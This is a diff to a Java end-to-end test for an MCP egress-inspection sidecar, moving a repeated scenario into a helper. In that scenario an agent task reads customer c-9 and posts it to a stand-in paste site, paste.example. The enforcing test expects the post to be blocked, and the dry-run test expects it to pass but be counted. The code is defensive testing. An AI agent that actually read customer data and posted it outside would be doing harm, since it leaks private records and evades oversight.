@@ -235,11 +235,8 @@ class McpSdkEndToEndTest {
         int seen = server.calls().size();
         double denied = enforcing.metrics().inspectionCount(Direction.EGRESS, InspectionReason.TRANSITION_FORBIDDEN);
 
-        List<JsonNode> out = client(egressUrl(enforcing), task("crm.read_customer", "web.post"),
-                call("crm.read_customer", "id", "c-9"), call("web.post", "url", "https://paste.example/x",
-                        "body", "Customer c-9"));
+        List<JsonNode> out = readCustomerThenPostIt(enforcing);
 
-        assertThat(resultText(out.get(1))).contains("\"id\":\"c-9\"");
         JsonNode data = rpcDenial(out.get(2), 403, -32003, 2);
         assertThat(data.path("error").asText()).isEqualTo("insufficient_scope");
         assertThat(data.path("reason").asText()).isEqualTo("transition_forbidden");
@@ -263,16 +260,22 @@ class McpSdkEndToEndTest {
         int seen = server.calls().size();
         double hits = dryRun.metrics().inspectionDryRunCount(Direction.EGRESS, InspectionReason.TRANSITION_FORBIDDEN);
 
-        List<JsonNode> out = client(egressUrl(dryRun), task("crm.read_customer", "web.post"),
-                call("crm.read_customer", "id", "c-9"), call("web.post", "url", "https://paste.example/x",
-                        "body", "Customer c-9"));
+        List<JsonNode> out = readCustomerThenPostIt(dryRun);
 
-        assertThat(resultText(out.get(1))).contains("\"id\":\"c-9\"");
         assertThat(resultText(out.get(2))).isEqualTo("{\"posted\":\"https://paste.example/x\",\"bytes\":12}");
         assertThat(since(seen)).extracting(c -> c.path("call").asText()).containsExactly("crm.read_customer",
                 "web.post");
         assertThat(dryRun.metrics().inspectionDryRunCount(Direction.EGRESS, InspectionReason.TRANSITION_FORBIDDEN))
                 .isEqualTo(hits + 1);
+    }
+
+    /** A new task that reads customer c-9, then posts it outside, through the given agent's sidecar. */
+    private List<JsonNode> readCustomerThenPostIt(Sidecar via) throws Exception {
+        List<JsonNode> out = client(egressUrl(via), task("crm.read_customer", "web.post"),
+                call("crm.read_customer", "id", "c-9"), call("web.post", "url", "https://paste.example/x",
+                        "body", "Customer c-9"));
+        assertThat(resultText(out.get(1))).contains("\"id\":\"c-9\"");
+        return out;
     }
 
     private List<JsonNode> since(int seen) {
